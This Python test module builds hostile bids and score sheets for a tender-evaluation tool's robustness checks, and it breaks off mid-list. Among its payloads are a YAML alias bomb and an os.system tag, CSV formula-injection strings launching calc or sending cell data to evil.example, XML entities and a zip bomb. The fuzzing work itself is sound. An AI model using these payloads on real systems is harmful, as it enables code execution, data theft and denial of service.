"""The tender side of the hostile corpus: bids, score sheets and workspaces that try to
mislead, crash or slow ``obc tender``, each with the clear error (or result) it must get.

Every case starts from a copy of the sample tender (`tender_base`: four bids as YAML,
JSON and XLSX, three score sheets, ``moderation.csv``) and changes one thing. The
runner asserts no traceback, the exit code, the message fragment, no live formula in
any CSV or XLSX written, and, where a case gives ``within``, the time the command took.
"""

from __future__ import annotations

import errno
import functools
import io
import json
import os
import shutil
import tempfile
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

RULESETS = Path(__file__).parents[2] / "rulesets"
ROOT = "{root}"
CHECK = ["tender", "check", ROOT]
EVALUATE = ["tender", "evaluate", ROOT]
SHEETS = ["tender", "scoresheets", ROOT]
VERIFY = ["tender", "verify", ROOT]
AWARD = ["tender", "award", ROOT, "--date", "2026-03-02"]


@dataclass(frozen=True)
class Case:
    """One hostile input: the fields of the corpus's ``Case`` that the tender runner reads
    (`test_tender_corpus.py`), plus ``within``."""

    id: str
    args: Sequence[str]
    exit: int
    message: str = ""
    setup: Callable[[Any], dict[str, str] | None] | None = None
    fault: Callable[[Any, Path], None] | None = None
    check: Callable[[Path], None] | None = None
    within: float | None = None
    """Seconds the command may take at most (limits that must answer fast)."""


@functools.cache
def tender_base() -> Path:
    """The sample tender's inputs, built once per test session."""
    from obcrules.tender.demo import build_sample_tender

    base = Path(tempfile.mkdtemp(prefix="obc-hostile-tender-"))
    build_sample_tender(base, RULESETS / "continence.obc", "lot1", ["P01", "P02", "P03", "P04"],
                        write_config=True)
    return base


def _copy(w: Any) -> Path:
    shutil.copytree(tender_base(), w.root, dirs_exist_ok=True, symlinks=True)
    return Path(w.root)


def _then(*steps: Callable[[Path], None]) -> Callable[[Any], None]:
    def setup(w: Any) -> None:
        root = _copy(w)
        for step in steps:
            step(root)
    return setup


def _text(relative: str, old: str, new: str) -> Callable[[Path], None]:
    def step(root: Path) -> None:
        path = root / relative
        text = path.read_text(encoding="utf-8")
        assert old in text, (relative, old)
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return step


def _write(relative: str, content: str | bytes) -> Callable[[Path], None]:
    def step(root: Path) -> None:
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    return step


def _run(*args: str) -> Callable[[Path], None]:
    """Run an obc command during setup (e.g. evaluate and award before tampering)."""
    def step(root: Path) -> None:
        from click.testing import CliRunner

        from obcrules.cli import main

        result = CliRunner().invoke(main, [a.replace(ROOT, str(root)) for a in args])
        assert result.exit_code == 0, result.output
    return step


YAML_BID = "bids/p01.yaml"
JSON_BID = "bids/p02.json"
XLSX_BID = "bids/p04.xlsx"
PRICE = "price: '1150000'"
JSON_PRICE = '"price": "1050000"'


def _yaml_price(value: str) -> Callable[[Any], None]:
    return _then(_text(YAML_BID, PRICE, f"price: {value}"))


def _json_price(value: str) -> Callable[[Any], None]:
    return _then(_text(JSON_BID, JSON_PRICE, f'"price": {value}'))


NOT_MONEY = "is not an amount of money"
COMMAND = 3.0
"""Seconds a whole ``obc tender check`` may take on a limit case (the command itself, with
the ruleset's check, takes about half a second; tests/io/test_strict.py times the limits
alone against 1 s). The inputs took 34 s to minutes before the limits."""
CASES: list[Case] = []

# -------------------------------------------------------------- prices in a YAML bid (item 6, 8)
for name, value, message in [
    ("nan", ".nan", NOT_MONEY), ("nan-upper", ".NaN", NOT_MONEY), ("inf", ".inf", NOT_MONEY),
    ("minus-inf", "-.inf", NOT_MONEY), ("nan-word", "NaN", NOT_MONEY),
    ("infinity-word", "Infinity", NOT_MONEY), ("400-digits", "9" * 400, "more than any amount"),
    ("1e308", "1e308", "more than any amount"), ("1e308-text", "'1e308'", NOT_MONEY),
    ("sexagesimal", "1:15:00", NOT_MONEY), ("thousandth", "0.001", "more than two decimal"),
    ("half-penny", "1150000.005", "more than two decimal"), ("dollar", "$1150000",
                                                             "in another currency"),
    ("euro", "€1150000", "in another currency"), ("yen", "¥1150000", "in another currency"),
    ("indian-grouping", "'1,15,0000'", "grouped in thousands"),
    ("bad-grouping", "'11,50,000'", "grouped in thousands"), ("zero", "0", "more than zero"),
    ("zero-pence", "0.00", "more than zero"), ("negative", "-5", "more than zero"),
    ("boolean", "true", NOT_MONEY), ("yes", "yes", NOT_MONEY), ("list", "[1150000]", NOT_MONEY),
    ("mapping", "{amount: 1150000}", NOT_MONEY), ("formula", "'=1+1'", NOT_MONEY),
    ("hex", "0x118C30", ""), ("octal-text", "0o10", ""), ("date", "2026-01-01", NOT_MONEY),
    ("words", "one million", NOT_MONEY), ("blank", "''", "is missing"), ("null", "~", "missing"),
    ("percent", "'10%'", NOT_MONEY), ("two-points", "'1.150.000'", NOT_MONEY),
    ("exponent-text", "'1.15e6'", NOT_MONEY), ("nbsp-grouping", "'1\u00a0150\u00a0000'",
                                                 NOT_MONEY),
    ("fullwidth-digits", "'\uff11\uff11\uff15\uff10\uff10\uff10\uff10'", NOT_MONEY),
    ("arabic-digits", "'\u0661\u0661\u0665\u0660\u0660\u0660\u0660'", NOT_MONEY),
    ("pound-after", "'1150000£'", ""), ("two-pounds", "'££1150000'", NOT_MONEY),
]:
    exit_code = 0 if name in ("hex", "octal-text", "pound-after") else 1
    CASES.append(Case(f"tender-yaml-price-{name}", CHECK, exit_code, message,
                      setup=_yaml_price(value)))

# Valid spellings of money are still taken.
for name, value in [("pounds-grouped", "'£1,150,000.00'"), ("underscores", "1_150_000"),
                    ("pence", "1149999.99"), ("spaces", "'1 150 000'"), ("float", "1150000.5")]:
    CASES.append(Case(f"tender-yaml-price-ok-{name}", CHECK, 0, "ok: checked",
                      setup=_yaml_price(value)))

# ------------------------------------------------------------- prices in a JSON bid (item 6, 8)
for name, value, message in [
    ("nan", "NaN", "`NaN` is not a number JSON allows"),
    ("infinity", "Infinity", "`Infinity` is not a number JSON allows"),
    ("minus-infinity", "-Infinity", "`-Infinity` is not a number JSON allows"),
    ("1e308", "1e308", "more than any amount"), ("1e999", "1e999", "more than any amount"),
    ("400-digits", "9" * 400, "more than any amount"),
    ("5000-digits", "9" * 5000, "too many digits"), ("thousandth", "0.001",
                                                     "more than two decimal"),
    ("dollar", '"$1000"', "in another currency"), ("euro", '"€1000"', "in another currency"),
    ("indian-grouping", '"1,15,0000"', "grouped in thousands"), ("null", "null", "is missing"),
    ("true", "true", NOT_MONEY), ("object", '{"a": 1}', NOT_MONEY),
    ("negative-zero", "-0", "more than zero"), ("tiny", "1e-300", "more than two decimal"),
]:
    CASES.append(Case(f"tender-json-price-{name}", CHECK, 1, message, setup=_json_price(value)))

# ----------------------------------------------------------- people expected (item 6)
for name, value, message in [
    ("nan", ".nan", "is not a whole number of people"),
    ("inf", ".inf", "is not a whole number of people"),
    ("400-digits", "9" * 400, "is not a whole number of people"),
    ("1e308", "1e308", "is not a whole number of people"),
    ("fraction", "140.5", "is not a whole number of people"),
    ("negative", "-1", "is not a whole number of people"),
    ("text", "many", "is not a whole number of people"),
    ("sexagesimal", "1:40", "is not a whole number of people"),
    ("boolean", "true", "is not a whole number of people"),
]:
    CASES.append(Case(f"tender-yaml-people-{name}", CHECK, 1, message,
                      setup=_then(_text(YAML_BID, "people: 140", f"people: {value}"))))
for name, value in [("nan", "NaN"), ("infinity", "Infinity"), ("1e308", "1e308"),
                    ("400-digits", "9" * 400)]:
    CASES.append(Case(f"tender-json-people-{name}", CHECK, 1, "",
                      setup=_then(_text(JSON_BID, '"people": 120', f'"people": {value}'))))

# ---------------------------------------------------------- YAML structure (items 6, 7, 8)
BOMB = "".join(f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}" if i else '"lol"'] * 9) + "]\n"
               for i in range(9))
for name, text, message, within in [
    ("alias-bomb", BOMB, "a bid may not repeat parts by anchors and aliases", COMMAND),
    ("alias", "bidder: &n Acme\nlot: *n\n", "uses the alias `*n`", COMMAND),
    ("merge-key", "base: &b {people: 1}\nbidder: {<<: *b}\n", "uses the alias", COMMAND),
    ("nesting-100k-flow", "bidder: " + "[" * 100_000 + "]" * 100_000 + "\n",
     "nested more than 32 levels deep", COMMAND),
    ("nesting-100k-mixed", "bidder: " + "[{a: " * 50_000 + "1" + "}]" * 50_000 + "\n",
     "has a line of more than 32,767 characters", COMMAND),
    ("nesting-40-mixed-lines", "bidder:\n" + "".join(f"{'  ' * i}- a{i}:\n" for i in range(40))
     + "  " * 40 + "x\n", "nested more than 32 levels deep", COMMAND),
    ("nesting-40-block", "".join("  " * i + f"k{i}:\n" for i in range(40)) + "  " * 40 + "x\n",
     "nested more than 32 levels deep", COMMAND),
    ("field-40k", "bidder: " + "A" * 40_000 + "\n", "more than a field may hold", COMMAND),
]:
    CASES.append(Case(f"tender-yaml-{name}", CHECK, 1, message, within=within,
                      setup=_then(_write(YAML_BID, text))))

for name, step, message in [
    ("duplicate-price", _text(YAML_BID, PRICE, f"{PRICE}\nprice: 10"),
     "`price` is given twice, at line"),
    ("duplicate-outcome-key", _text(YAML_BID, "    people: 140\n", "    people: 140\n"
                                    "    people: 1\n"), "`people` is given twice"),
    ("duplicate-bidder", _text(YAML_BID, "lot: lot1", "lot: lot1\nbidder: Other"),
     "`bidder` is given twice, at line 1"),
    ("python-tag", _write(YAML_BID, "bidder: !!python/object/apply:os.system ['true']\n"),
     "is not valid YAML"),
    ("unknown-tag", _write(YAML_BID, "bidder: !acme x\n"), "is not valid YAML"),
    ("two-documents", _write(YAML_BID, "bidder: a\n---\nbidder: b\n"), "is not valid YAML"),
    ("unclosed-quote", _write(YAML_BID, 'bidder: "Acme\n'), "is not valid YAML"),
    ("tab-indent", _write(YAML_BID, "outcomes:\n\twellbeing: 1\n"), "is not valid YAML"),
    ("empty-file", _write(YAML_BID, ""), "is not a bid"),
    ("comment-only", _write(YAML_BID, "# nothing\n"), "is not a bid"),
    ("top-list", _write(YAML_BID, "- bidder: a\n"), "is not a bid"),
    ("top-scalar", _write(YAML_BID, "just text\n"), "is not a bid"),
    ("not-utf8", _write(YAML_BID, b"bidder: \xff\xfe\n"), "is not UTF-8"),
    ("utf16", _write(YAML_BID, "bidder: a\n".encode("utf-16")), "is not UTF-8"),
    ("nul-byte", _write(YAML_BID, b"bidder: a\x00b\n"), "is not valid YAML"),
    ("complex-key", _write(YAML_BID, "? [a, b]\n: 1\n"), "key that is not a name"),
    ("binary-tag", _write(YAML_BID, "bidder: !!binary aGVsbG8=\n"), "must be text"),
    ("key-number", _write(YAML_BID, "1: 2\n"), "is not a field of a bid"),
    ("lot-other", _text(YAML_BID, "lot: lot1", "lot: lot2"), "the workspace evaluates lot"),
    ("unknown-field", _text(YAML_BID, "lot: lot1", "lot: lot1\npricee: 1"),
     "is not a field of a bid"),
    ("bom", _write(YAML_BID, "\ufeff" + "bidder: a\n"), "lot: is missing"),
]:
    CASES.append(Case(f"tender-yaml-{name}", CHECK, 1, message, setup=_then(step)))

# ---------------------------------------------------------- JSON structure (items 6, 7, 8)
for name, step, message in [
    ("duplicate-price", _text(JSON_BID, JSON_PRICE, f'{JSON_PRICE},\n  "price": "10"'),
     "`price` is given twice, at line 22 and line 23"),
    ("duplicate-nested", _text(JSON_BID, '"people": 120,', '"people": 120, "people": 1,'),
     "`people` is given twice"),
    ("nesting-100k", _write(JSON_BID, '{"bidder": ' + "[" * 100_000 + "]" * 100_000 + "}"),
     "nested more than 32 levels deep"),
    ("nesting-40", _write(JSON_BID, '{"bidder": ' + "[" * 40 + "]" * 40 + "}"),
     "nested more than 32 levels deep"),
    ("field-40k", _write(JSON_BID, '{"bidder": "' + "A" * 40_000 + '"}'),
     "more than the 32,767 a field may hold"),
    ("truncated", _write(JSON_BID, '{"bidder": "a",'), "is not valid JSON"),
    ("trailing-comma", _write(JSON_BID, '{"bidder": "a",}'), "is not valid JSON"),
    ("comment", _write(JSON_BID, '// x\n{"bidder": "a"}'), "is not valid JSON"),
    ("empty", _write(JSON_BID, ""), "is not valid JSON"),
    ("array", _write(JSON_BID, "[]"), "is not a bid"),
    ("lone-surrogate", _write(JSON_BID, '{"bidder": "\\ud800"}'), "lot: is missing"),
    ("not-utf8", _write(JSON_BID, b'{"bidder": "\xff"}'), "is not UTF-8"),
]:
    CASES.append(Case(f"tender-json-{name}", CHECK, 1, message, setup=_then(step),
                      within=COMMAND if "nesting" in name or "field" in name else None))

# ---------------------------------------------------------- bidder identity (item 8)
SECOND = "bidder: Acme Care Ltd"


def _second_bid(bidder: str) -> Callable[[Path], None]:
    """A second bid, ``bids/p00.yaml``, a copy of Acme's under the name ``bidder``."""
    def step(root: Path) -> None:
        text = (root / YAML_BID).read_text(encoding="utf-8")
        text = text.replace(SECOND, "bidder: " + json.dumps(bidder))
        (root / "bids" / "p00.yaml").write_text(text.replace("provider_id: P01",
                                                             "provider_id: P09"),
                                                encoding="utf-8")
    return step


def _yaml_field(key: str, value: str) -> Callable[[Any], None]:
    old = {"bidder": SECOND, "provider_id": "provider_id: P01"}[key]
    return _then(_text(YAML_BID, old, f"{key}: {value}"))


for name, bidder, message in [
    ("zero-width-space", "Acme\u200b Care Ltd", "already bid in"),
    ("fullwidth", "\uff21\uff43\uff4d\uff45 Care Ltd", "already bid in"),
    ("soft-hyphen", "Ac\u00adme Care Ltd", "already bid in"),
    ("word-joiner", "Acme Care\u2060 Ltd", "already bid in"),
    ("upper-case", "ACME CARE LTD", "already bid in"),
    ("double-space", "Acme  Care Ltd", "already bid in"),
    ("nbsp", "Acme\u00a0Care Ltd", "already bid in"),
    ("bom-inside", "\ufeffAcme Care Ltd", "already bid in"),
]:
    CASES.append(Case(f"tender-bidder-lookalike-{name}", CHECK, 1, message,
                      setup=_then(_second_bid(bidder))))
for name, bidder in [("newline", "Acme\\nok: forged"), ("tab", "Acme\\tCare"),
                     ("escape", "Acme\\e[31mred"), ("nul", "Acme\\0"),
                     ("carriage-return", "Acme\\rCare"), ("bell", "Acme\\a"),
                     ("delete", "Acme\\x7f")]:
    CASES.append(Case(f"tender-bidder-control-{name}", CHECK, 1, "has a control character",
                      setup=_yaml_field("bidder", f'"{bidder}"')))


# ------------------------------------------- formula text in a bid reaches no sheet live (item 2)
for name, bidder in [("hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"Acme")'),
                     ("plus", "+1+cmd|' /C calc'!A0"), ("minus", "-2+3+cmd|' /C calc'!A0"),
                     ("at", "@SUM(1+1)*cmd|' /C calc'!A0"), ("tab", "\t=1+1"),
                     ("fullwidth-equals", "\uff1d1+1"), ("quote-equals", "'=1+1")]:
    quoted = json.dumps(bidder)
    CASES.append(Case(f"tender-formula-bidder-{name}-scoresheets", SHEETS, 0,
                      "wrote out/scoresheets/alice.xlsx", setup=_yaml_field("bidder", quoted)))
CASES.append(Case("tender-formula-bidder-template", ["tender", "template", ROOT], 0,
                  "bid-template.xlsx", setup=_then()))


def _rename_bidder(old: str, new: str, bid: str) -> Callable[[Path], None]:
    """The bidder ``old`` renamed ``new`` in its bid, and in the score sheets and
    ``moderation.csv`` as a spreadsheet returns them (the name guarded with an apostrophe)."""
    def step(root: Path) -> None:
        import csv

        path = root / bid
        path.write_text(path.read_text(encoding="utf-8").replace(
            json.dumps(old), json.dumps(new)).replace(f"bidder: {old}", "bidder: "
                                                      + json.dumps(new)), encoding="utf-8")
        for sheet in [*(root / "scores").glob("*.csv"), root / "moderation.csv"]:
            rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8"))))
            rows = [[("'" + new) if c == old else c for c in r] for r in rows]
            out = io.StringIO()
            csv.writer(out, lineterminator="\n").writerows(rows)
            sheet.write_text(out.getvalue(), encoding="utf-8")
    return step


HYPERLINK = '=HYPERLINK("http://evil.example")'
_round_trip_sheet = _rename_bidder("Acme Care Ltd", HYPERLINK, YAML_BID)
for name, args, message in [("moderation-todo", ["tender", "moderate", ROOT],
                             "wrote out/moderation-todo.csv"),
                            ("scoresheets-after-rename", SHEETS, "wrote out/scoresheets"),
                            ("report", ["tender", "check", ROOT], "ok: checked")]:
    CASES.append(Case(f"tender-formula-bidder-{name}", args, 0, message,
                      setup=_then(_rename_bidder("Brightwater Health CIC", HYPERLINK, JSON_BID))))


CASES.append(Case("tender-formula-bidder-round-trip-evaluates", EVALUATE, 0,
                  '1. =HYPERLINK("http://evil.example"): 80.56',
                  setup=_then(_round_trip_sheet)))

# -------------------------------------------------------------- XLSX bids (items 3, 6, 7)


def _xlsx_edit(edit: Callable[[Any], None], relative: str = XLSX_BID) -> Callable[[Path], None]:
    def step(root: Path) -> None:
        import openpyxl

        path = root / relative
        book = openpyxl.load_workbook(path)
        edit(book)
        book.save(path)
    return step


def _zip_edit(member: str, content: bytes | None, relative: str = XLSX_BID
              ) -> Callable[[Path], None]:
    """Replace (or, with None, drop) one part of the workbook's zip."""
    def step(root: Path) -> None:
        path = root / relative
        with zipfile.ZipFile(path) as source:
            parts = {i.filename: source.read(i) for i in source.infolist()}
        if content is None:
            parts.pop(member)
        else:
            parts[member] = content
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
            for name, data in parts.items():
                target.writestr(name, data)
        path.write_bytes(buffer.getvalue())
    return step


def _formula_with_cache(root: Path) -> None:
    """``=1390000*2`` whose saved result says 1000 (what another program can write)."""
    path = root / XLSX_BID
    with zipfile.ZipFile(path) as source:
        parts = {i.filename: source.read(i) for i in source.infolist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    start = sheet.index('<c r="B5"')
    end = sheet.index("</c>", start) + 4
    parts["xl/worksheets/sheet1.xml"] = (sheet[:start] + '<c r="B5"><f>1390000*2</f><v>1000</v>'
                                         "</c>" + sheet[end:]).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    path.write_bytes(buffer.getvalue())


def _set(cell: str, value: Any, sheet: str = "Bid") -> Callable[[Any], None]:
    def edit(book: Any) -> None:
        book[sheet][cell] = value
    return edit


def _hidden_price_row(book: Any) -> None:
    sheet = book["Bid"]
    sheet.insert_rows(3)
    sheet["A3"], sheet["B3"] = "Price", 1000
    sheet.row_dimensions[3].hidden = True


def _hidden_column(book: Any) -> None:
    sheet = book["Bid"]
    sheet["J5"] = "1000"
    sheet.column_dimensions["J"].hidden = True


def _hide_sheet(state: str) -> Callable[[Any], None]:
    def edit(book: Any) -> None:
        extra = book.create_sheet("Visible")
        extra["A1"] = "x"
        book["Bid"].sheet_state = state
    return edit


def _extra_hidden_sheet(book: Any) -> None:
    sheet = book.create_sheet("Secret", 0)
    sheet["A1"], sheet["B1"] = "Price", 1000
    sheet.sheet_state = "hidden"


def _rename_sheet(book: Any) -> None:
    book["Bid"].title = "Bid return"


def _array_formula(book: Any) -> None:
    from openpyxl.worksheet.formula import ArrayFormula

    book["Bid"]["B5"] = ArrayFormula("B5", "=SUM(1390000)")


for name, step, message in [
    ("formula-cached-1000", _formula_with_cache,
     "Bid!B5: enter a value, not a formula (`=1390000*2`)"),
    ("formula-price", _xlsx_edit(_set("B5", "=1390000*2")),
     "Bid!B5: enter a value, not a formula (`=1390000*2`)"),
    ("formula-bidder", _xlsx_edit(_set("B3", '=HYPERLINK("http://evil.example","D")')),
     "Bid!B3: enter a value, not a formula"),
    ("formula-people", _xlsx_edit(_set("G13", "=100+20")), "Bid!G13: enter a value"),
    ("formula-no-cache", _xlsx_edit(_set("F13", '=CONCAT("less ","than 7%")')),
     "Bid!F13: enter a value, not a formula"),
    ("array-formula", _xlsx_edit(_array_formula), "Bid!B5: enter a value, not a formula"),
    ("hidden-price-row", _xlsx_edit(_hidden_price_row), "is in hidden row 3 (`Price`)"),
    ("hidden-column", _xlsx_edit(_hidden_column), "is in hidden column J"),
    ("hidden-bid-sheet", _xlsx_edit(_hide_sheet("hidden")), "its sheet `Bid` is hidden"),
    ("very-hidden-bid-sheet", _xlsx_edit(_hide_sheet("veryHidden")),
     "its sheet `Bid` is hidden"),
    ("hidden-first-sheet", _xlsx_edit(_extra_hidden_sheet),
     "the sheet `Secret` is hidden and holds values"),
    ("renamed-sheet", _xlsx_edit(_rename_sheet), "has no sheet named `Bid`"),
    ("price-nan-text", _xlsx_edit(_set("B5", "NaN")), NOT_MONEY),
    ("price-inf-text", _xlsx_edit(_set("B5", "Infinity")), NOT_MONEY),
    ("price-1e308", _xlsx_edit(_set("B5", 1e308)), "more than any amount"),
    ("price-thousandth", _xlsx_edit(_set("B5", 0.001)), "more than two decimal"),
    ("price-dollar", _xlsx_edit(_set("B5", "$1390000")), "in another currency"),
    ("price-formula-text", _xlsx_edit(_set("B5", "'=1+1")), NOT_MONEY),
    ("people-fraction", _xlsx_edit(_set("G13", 120.5)), "is not a whole number of people"),
    ("cell-40k", _xlsx_edit(_set("B3", "A" * 40_000)), "it may have at most 300"),
    ("bidder-control", _xlsx_edit(_set("B3", "Dunmore\nCare")), "has a control character"),
    ("malformed-xml", _zip_edit("xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row>"),
     "is not a readable XLSX workbook"),
    ("undefined-entity", _zip_edit("xl/worksheets/sheet1.xml",
                                   b'<?xml version="1.0"?><worksheet xmlns="http://schemas.'
                                   b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                                   b'<row r="1"><c r="A1" t="inlineStr"><is><t>&evil;</t></is>'
                                   b"</c></row></sheetData></worksheet>"),
     "is not a readable XLSX workbook"),
    ("doctype-entity", _zip_edit("xl/workbook.xml",
                                 b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]>'
                                 b"<workbook>&a;</workbook>"),
     "has no sheet named `Bid` (its sheets: )"),
    ("missing-sheet-part", _zip_edit("xl/worksheets/sheet1.xml", None),
     "has no sheet named `Bid` (its sheets: )"),
    ("missing-workbook-part", _zip_edit("xl/workbook.xml", None),
     "is not a readable XLSX workbook"),
    ("missing-content-types", _zip_edit("[Content_Types].xml", None),
     "is not a readable XLSX workbook"),
    ("not-a-zip", _write(XLSX_BID, b"this is not a workbook"), "is not a readable XLSX"),
    ("empty-file", _write(XLSX_BID, b""), "is not a readable XLSX workbook"),
    ("truncated-zip", lambda root: (root / XLSX_BID).write_bytes(
        (root / XLSX_BID).read_bytes()[:3000]), "is not a readable XLSX workbook"),
    ("csv-renamed", _write(XLSX_BID, b"bidder,price\nDunmore,1\n"), "is not a readable XLSX"),
]:
    CASES.append(Case(f"tender-xlsx-bid-{name}", CHECK, 1, message, setup=_then(step),
                      within=5.0))


def _zip_bomb(megabytes: int) -> Callable[[Path], None]:
    """A small workbook with a part of ``megabytes`` MB of zeros (a bid's limit is 20 MB,
    unpacked 100 MB)."""

    def make(root: Path) -> None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(root / XLSX_BID) as source, \
                zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
            for info in source.infolist():
                target.writestr(info.filename, source.read(info))
            target.writestr("xl/media/padding.bin", b"\0" * (megabytes * 1024 * 1024))
        (root / XLSX_BID).write_bytes(buffer.getvalue())

    return make


CASES.append(Case("tender-xlsx-bid-zip-bomb", CHECK, 1, "unpacks to 120 MB, more than the",
                  setup=_then(_zip_bomb(120)), within=COMMAND))
CASES.append(Case("tender-xlsx-bid-zip-bomb-within-the-limit", CHECK, 1,
                  "its part xl/media/padding.bin unpacks to 40 MB from",
                  setup=_then(_zip_bomb(40)), within=COMMAND))

# ------------------------------------------------------------ file sizes and limits (item 7)


def _big(relative: str, megabytes: int) -> Callable[[Path], None]:
    def step(root: Path) -> None:
        path = root / relative
        with path.open("ab") as handle:
            handle.write(b"#" * 1023 + b"\n")
            handle.truncate(megabytes * 1024 * 1024)
    return step


LIMIT = "[limits]\nmax_file_size = "
for name, steps, message in [
    ("yaml-21mb", [_big(YAML_BID, 21)], "is 21 MB, more than the 1 MB a YAML or JSON bid"),
    ("json-21mb", [_big(JSON_BID, 21)], "is 21 MB, more than the 1 MB a YAML or JSON bid"),
    ("yaml-2mb", [_big(YAML_BID, 2)], "is 2 MB, more than the 1 MB a YAML or JSON bid may be"),
    ("yaml-block-scalar-1mb", [_write(YAML_BID, "bidder: |\n" + ("  " + "x" * 100 + "\n")
                                      * 10_000)], "more than the 32,767 a field may hold"),
    ("yaml-long-line", [_write(YAML_BID, "bidder: " + "x" * 900_000 + "\n")],
     "has a line of more than 32,767 characters"),
    ("xlsx-21mb", [_big(XLSX_BID, 21)], "is 21 MB, more than the 20 MB"),
    ("sheet-21mb", [_big("scores/alice.csv", 21)], "is 21 MB, more than the 20 MB"),
    ("moderation-21mb", [_big("moderation.csv", 21)], "is 21 MB, more than the 20 MB"),
    ("limit-1kb", [_text("obc.toml", "[checks]", LIMIT + '"1 KB"\n\n[checks]')],
     "more than the 1 KB a bid or sheet may be"),
    ("limit-bytes", [_text("obc.toml", "[checks]", LIMIT + "600\n\n[checks]")],
     "more than the 600 bytes"),
]:
    CASES.append(Case(f"tender-size-{name}", CHECK, 1, message, setup=_then(*steps),
                      within=3.0))
for name, value, message in [("words", '"big"', "`big` is not a file size"),
                             ("negative", "-5", "is not a file size"),
                             ("zero", '"0 MB"', "is not a file size"),
                             ("unknown-key", '"1 MB"\nmax_rows = 3', "not a [limits] setting")]:
    CASES.append(Case(f"tender-size-config-{name}", CHECK, 1, message,
                      setup=_then(_text("obc.toml", "[checks]", LIMIT + value + "\n\n[checks]"))))

# ----------------------------------------------------------- score sheets (items 3, 6, 7)
ALICE = "scores/alice.csv"


def _csv_to_xlsx(edit: Callable[[Any], None] | None = None, title: str = "Scores"
                 ) -> Callable[[Path], None]:
    """Return alice's sheet as XLSX (with ``edit`` applied) instead of CSV."""
    def step(root: Path) -> None:
        import csv

        from openpyxl import Workbook

        rows = list(csv.reader(io.StringIO((root / ALICE).read_text(encoding="utf-8"))))
        book = Workbook()
        sheet = book.active
        sheet.title = title
        for row in rows:
            sheet.append([float(c) if c.replace(".", "").isdigit() else c for c in row])
        if edit is not None:
            edit(book)
        (root / ALICE).unlink()
        book.save(root / "scores" / "alice.xlsx")
    return step


def _score_formula(book: Any) -> None:
    book["Scores"]["C2"] = "=2+2"


def _score_hidden_row(book: Any) -> None:
    book["Scores"].row_dimensions[2].hidden = True


def _score_hidden_first_sheet(book: Any) -> None:
    decoy = book.create_sheet("Old scores", 0)
    decoy.append(["bidder", "criterion", "score", "justification"])
    decoy.append(["Acme Care Ltd", "approach", 0, "decoy"])
    decoy.sheet_state = "hidden"


def _score_sheet_hidden(book: Any) -> None:
    book.create_sheet("Notes")["A1"] = "x"
    book["Scores"].sheet_state = "hidden"


SCORES_XLSX = "scores/alice.xlsx"
for name, steps, message in [
    ("csv-field-200kb", [_write(ALICE, "bidder,criterion,score,justification\n"
                                "Acme Care Ltd,approach,4," + "x" * 200_000 + "\n")],
     "is not a readable CSV table: field larger than field limit"),
    ("csv-quoted-field-200kb", [_write(ALICE, 'bidder,criterion,score,justification\n'
                                       'Acme Care Ltd,approach,4,"' + "x" * 200_000 + '"\n')],
     "field larger than field limit"),
    ("csv-field-100kb", [_write(ALICE, "bidder,criterion,score,justification\n"
                                "Acme Care Ltd,approach,4," + "x" * 100_000 + "\n")],
     "has a cell of 100,000 characters, more than the 32,767"),
    ("csv-unclosed-quote", [_write(ALICE, 'bidder,criterion,score,justification\n"Acme,')],
     ""),
    ("csv-not-utf8", [_write(ALICE, b"bidder,criterion,score,justification\n\xff,a,1,b\n")],
     "is not UTF-8"),
    ("csv-nul", [_write(ALICE, "bidder,criterion,score,justification\nA\0,a,1,b\n")], ""),
    ("csv-no-header", [_write(ALICE, "")], "the header needs the columns"),
    ("csv-score-nan", [_text(ALICE, "Acme Care Ltd,approach,4,", "Acme Care Ltd,approach,NaN,")],
     "scores/alice.csv"),
    ("csv-score-inf", [_text(ALICE, "Acme Care Ltd,approach,4,",
                             "Acme Care Ltd,approach,Infinity,")], "scores/alice.csv"),
    ("csv-score-1e308", [_text(ALICE, "Acme Care Ltd,approach,4,",
                               "Acme Care Ltd,approach,1e308,")], "scores/alice.csv"),
    ("csv-score-400-digits", [_text(ALICE, "Acme Care Ltd,approach,4,",
                                    "Acme Care Ltd,approach," + "9" * 400 + ",")],
     "scores/alice.csv"),
    ("csv-score-formula", [_text(ALICE, "Acme Care Ltd,approach,4,",
                                 "Acme Care Ltd,approach,=4,")], "scores/alice.csv"),
    ("xlsx-formula", [_csv_to_xlsx(_score_formula)],
     "Scores!C2: enter a value, not a formula (`=2+2`)"),
    ("xlsx-hidden-row", [_csv_to_xlsx(_score_hidden_row)], "is in hidden row 2"),
    ("xlsx-hidden-first-sheet", [_csv_to_xlsx(_score_hidden_first_sheet)],
     "the sheet `Old scores` is hidden and holds values"),
    ("xlsx-scores-hidden", [_csv_to_xlsx(_score_sheet_hidden)], "its sheet `Scores` is hidden"),
    ("xlsx-wrong-sheet-name", [_csv_to_xlsx(title="Sheet1")], "has no sheet named `Scores`"),
    ("xlsx-malformed-xml", [_csv_to_xlsx(), _zip_edit("xl/worksheets/sheet1.xml", b"<a><b>",
                                                      SCORES_XLSX)],
     "is not a readable XLSX workbook"),
    ("xlsx-undefined-entity", [_csv_to_xlsx(), _zip_edit(
        "xl/worksheets/sheet1.xml", b'<?xml version="1.0"?><worksheet xmlns="http://schemas.'
        b'openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" '
        b't="inlineStr"><is><t>&evil;</t></is></c></row></sheetData></worksheet>',
        SCORES_XLSX)], "is not a readable XLSX workbook"),
    ("xlsx-missing-sheet-part", [_csv_to_xlsx(), _zip_edit("xl/worksheets/sheet1.xml", None,
                                                           SCORES_XLSX)],
     "has no sheet named `Scores` (its sheets: )"),
